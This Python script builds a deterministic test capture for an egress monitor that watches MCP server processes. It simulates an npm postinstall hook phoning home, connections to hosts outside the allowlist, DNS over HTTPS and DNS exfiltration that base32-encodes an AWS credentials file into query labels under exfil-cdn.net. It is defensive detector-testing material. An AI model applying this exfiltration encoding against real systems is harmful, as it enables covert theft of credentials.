#!/usr/bin/env python3
"""Write the verdict scenario: a capture, the process lookups recorded for it
(the format of `egresswatch run --record-procs`) and a config with allowlists,
so that replaying gives every verdict and detector reason (golden test).

    python3 pcaps/make_verdicts.py [OUTDIR]     # default: the folder of this script

Writes mcp-verdicts.pcap, mcp-verdicts.procs.jsonl and mcp-verdicts.toml.
Deterministic: fixed addresses, ports, ids and timestamps.

Processes (all on 10.20.0.5):
  node  pid 4242  server "github" (host cursor), phase run     - allowlisted api.github.com
  npm   pid 4300  server "github" (host cursor), phase install - postinstall hook
  node  pid 4400  server "notes"  (host claude-desktop)        - no allowlist: learning
  curl  pid 5000  not in any MCP tree                          - unwatched
"""

from __future__ import annotations

import base64
import json
import sys
from pathlib import Path

from make_tls_dns import ETH_C, ETH_S, client_hello, query, reply, tls_record
from scapy.layers.inet import IP, TCP, UDP
from scapy.utils import wrpcap

T0 = 1_767_225_600.0
LOCAL, RESOLVER = "10.20.0.5", "10.20.0.53"
GITHUB_IP, ROGUE_IP, NOTES_IP, DOH_IP = "140.82.112.3", "203.0.113.66", "198.51.100.40", "198.51.100.8"

HOST_APP = {"pid": 1000, "create_time": T0 - 900, "ppid": 1, "name": "cursor", "exe": "/usr/share/cursor/cursor",
            "cmdline": ["/usr/share/cursor/cursor"], "user": "dev"}
CLAUDE = {"pid": 1100, "create_time": T0 - 900, "ppid": 1, "name": "claude", "exe": "/opt/Claude/claude",
          "cmdline": ["/opt/Claude/claude"], "user": "dev"}
NPX = {"pid": 4200, "create_time": T0 - 60, "ppid": 1000, "name": "npm exec", "exe": "/usr/bin/node",
       "cmdline": ["npm", "exec", "@modelcontextprotocol/server-github"], "user": "dev"}
PROCS = {
    "github": ({"pid": 4242, "create_time": T0 - 50, "ppid": 4200, "name": "node", "exe": "/usr/bin/node",
                "cmdline": ["node", "/home/dev/.npm/_npx/1/node_modules/.bin/mcp-server-github"], "user": "dev"},
               [NPX, HOST_APP], "github", "cursor", "run"),
    "install": ({"pid": 4300, "create_time": T0 - 58, "ppid": 4200, "name": "sh", "exe": "/bin/sh",
                 "cmdline": ["sh", "-c", "node postinstall.js"], "user": "dev"},
                [NPX, HOST_APP], "github", "cursor", "install"),
    "notes": ({"pid": 4400, "create_time": T0 - 40, "ppid": 1100, "name": "node", "exe": "/usr/bin/node",
               "cmdline": ["node", "/opt/notes-mcp/server.js"], "user": "dev"},
              [CLAUDE], "notes", "claude-desktop", "run"),
    "curl": ({"pid": 5000, "create_time": T0 - 10, "ppid": 1, "name": "curl", "exe": "/usr/bin/curl",
              "cmdline": ["curl", "https://example.com"], "user": "dev"}, [], None, None, None),
}

CONFIG = """\
# Config for the verdict scenario (pcaps/make_verdicts.py).
[policy]
learning = true

[servers.github]
allow = ["api.github.com", "*.githubusercontent.com"]
"""


class Scenario:
    def __init__(self) -> None:
        self.pkts: list = []
        self.procs: list[str] = []
        self.port = 40000
        self.dns_id = 100

    def _ts(self) -> float:
        return T0 + len(self.pkts) * 0.01

    def _record(self, who: str, proto: str, port: int, remote: tuple[str, int], kind: str) -> None:
        proc, chain, server, host, phase = PROCS[who]
        self.procs.append(json.dumps({
            "ts": self._ts(), "proto": proto, "local": [LOCAL, port], "remote": list(remote), "kind": kind,
            "process": proc, "chain": chain, "server": server, "host": host, "phase": phase,
            "reason": "recorded by make_verdicts.py",
        }, separators=(",", ":")))

    def dns(self, who: str, name: str, qtype: str = "A", answers: tuple[str, ...] = ()) -> None:
        self.port += 1
        self.dns_id += 1
        q = query(name, qtype, self.dns_id)
        self._record(who, "udp", self.port, (RESOLVER, 53), "dns_query")
        self.pkts.append(ETH_C / IP(src=LOCAL, dst=RESOLVER) / UDP(sport=self.port, dport=53) / bytes(q.pack()))
        zone = [f"{name}. 60 IN {qtype} {a}" for a in answers]
        self.pkts.append(ETH_S / IP(src=RESOLVER, dst=LOCAL) / UDP(sport=53, dport=self.port) / reply(q, zone))

    def tcp(self, who: str, dst: str, sni: str | None = None, dport: int = 443) -> None:
        self.port += 1
        self._record(who, "tcp", self.port, (dst, dport), "connect")
        seq = 5_000_000 + self.port
        self.pkts.append(ETH_C / IP(src=LOCAL, dst=dst) / TCP(sport=self.port, dport=dport, flags="S", seq=seq))
        self.pkts.append(ETH_S / IP(src=dst, dst=LOCAL) / TCP(sport=dport, dport=self.port, flags="SA", seq=9,
                                                             ack=seq + 1))
        if sni is not None:
            self.pkts.append(ETH_C / IP(src=LOCAL, dst=dst) / TCP(sport=self.port, dport=dport, flags="PA",
                                                                 seq=seq + 1, ack=10) / tls_record(client_hello(sni)))


def build() -> Scenario:
    s = Scenario()
    s.dns("install", "registry.npmjs.org", answers=("104.16.0.35",))  # install phase: registries allowed
    s.tcp("install", "104.16.0.35", "registry.npmjs.org")
    s.dns("install", "stats.npm-metrics.dev", answers=("192.0.2.77",))  # the hook phones home: install_egress
    s.tcp("install", "192.0.2.77", "stats.npm-metrics.dev")
    s.dns("github", "api.github.com", answers=(GITHUB_IP,))  # allowlisted name
    s.tcp("github", GITHUB_IP, "api.github.com")  # allowlisted connection, named by the DNS memory
    s.dns("github", "telemetry.evil-metrics.io", answers=(NOTES_IP,))  # not allowlisted
    s.tcp("github", NOTES_IP, "telemetry.evil-metrics.io")
    s.tcp("github", ROGUE_IP)  # an IP this server never resolved: direct_ip
    s.tcp("github", DOH_IP, "dns.google")  # DNS over HTTPS to a resolver not allowed
    secret = b"[default]\naws_access_key_id=AKIAIOSFODNN7EXAMPLE\naws_secret_access_key=wJalrXUtnFEMI"
    chunks = base64.b32encode(secret).decode().rstrip("=").lower()
    for i in range(0, len(chunks), 50):  # exfiltration by DNS: encoded labels under one parent
        s.dns("github", f"{chunks[i:i + 50]}.{i // 50}.x7k.exfil-cdn.net", "TXT")
    s.dns("notes", "api.notes.example", answers=(NOTES_IP,))  # no allowlist, learning: first_seen
    s.tcp("notes", NOTES_IP, "api.notes.example")  # the same destination again: learned
    s.dns("curl", "example.com", answers=("93.184.215.14",))  # outside any MCP tree: unwatched
    return s


def main() -> None:
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent
    s = build()
    for i, p in enumerate(s.pkts):
        p.time = T0 + i * 0.01
    wrpcap(str(out / "mcp-verdicts.pcap"), s.pkts, linktype=1)
    (out / "mcp-verdicts.procs.jsonl").write_text("".join(line + "\n" for line in s.procs))
    (out / "mcp-verdicts.toml").write_text(CONFIG)
    print(f"mcp-verdicts.pcap: {len(s.pkts)} packets, {len(s.procs)} process records")


if __name__ == "__main__":
    main()
